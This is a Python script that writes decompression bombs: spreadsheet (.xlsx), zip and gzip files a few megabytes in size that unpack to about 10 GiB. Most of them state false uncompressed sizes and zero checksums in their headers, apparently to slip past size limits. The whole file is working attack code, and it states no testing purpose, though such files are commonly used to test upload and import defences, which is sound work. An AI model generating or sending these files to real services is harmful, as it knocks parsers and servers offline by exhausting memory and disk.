"""Archives that are small on the disk and 10 GiB when they are unpacked. usage: bombs.py FOLDER"""
import pathlib
import struct
import sys
import zlib

PIECE = 16 << 20
WHOLE = 10 << 30
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def deflated(head, filler, size):
    """`head`, then `filler` until it is `size` bytes: one piece is packed, and stands there again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    if size == 0:
        return first + packer.flush()
    again = packer.compress(filler * (PIECE // len(filler))) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (size // PIECE) + packer.flush()


def zipped(members):
    """A zip file of (name, packed bytes, size and checksum that it states)."""
    body, directory = b"", b""
    for name, packed, size, sum_ in members:
        name = name.encode()
        common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, sum_, len(packed), size, len(name), 0)
        directory += struct.pack("<IH", 0x02014B50, 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body)) + name
        body += struct.pack("<I", 0x04034B50) + common + name + packed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(body), 0)
    return body + directory + end


def workbook(bombed, packed, size):
    """A workbook one part of which is the bomb; that states to be of `size`."""
    def relationships(*targets):
        lines = "".join(f'<Relationship Id="r{at}" Type="{OFFICE}/{kind}" Target="{target}"/>'
                        for at, (kind, target) in enumerate(targets))
        return f"<Relationships>{lines}</Relationships>"
    parts = {
        "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml")),
        "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml"),
                                                    ("sharedStrings", "sharedStrings.xml")),
        "xl/workbook.xml": f'<workbook xmlns:r="{OFFICE}"><sheets><sheet name="a" r:id="r0"/></sheets></workbook>',
        "xl/sharedStrings.xml": "<sst/>",
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData/></worksheet>",
    }
    members = [(name, deflated(text.encode(), b" ", 0), len(text), zlib.crc32(text.encode()))
               for name, text in parts.items() if name != bombed]
    return zipped(members + [(bombed, packed, size, 0)])


def bombs():
    """By name: bytes of the file."""
    third = WHOLE // 3 + PIECE
    row = b"<row><c><v>1</v></c></row>"
    yield "sheet of rows.xlsx", workbook(
        "xl/worksheets/sheet1.xml", deflated(b"<worksheet><sheetData>", row, WHOLE), 1 << 20)
    yield "sheet of blanks.xlsx", workbook(
        "xl/worksheets/sheet1.xml", deflated(b"<worksheet><sheetData>", b" ", WHOLE), 0xFFFFFFF0)
    yield "one text.xlsx", workbook("xl/sharedStrings.xml", deflated(b"<sst><si><t>", b"a", WHOLE), 1 << 20)
    yield "texts.xlsx", workbook("xl/sharedStrings.xml", deflated(b"<sst>", b"<si><t>a</t></si>", WHOLE), 1 << 20)
    yield "stated.zip", zipped([(f"{at}.csv", deflated(b"a,b\n", b"\n", third), third, 0) for at in range(3)])
    yield "hidden.zip", zipped([("a.csv", deflated(b"a,b\n", b"1,2\n", WHOLE), 1 << 20, 0)])
    yield "list.csv.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + deflated(b"a,b\n", b"1,2\n", WHOLE) + struct.pack("<II", 0, 1 << 20)


def main():
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, contents in bombs():
        (folder / name).write_bytes(contents)


main()
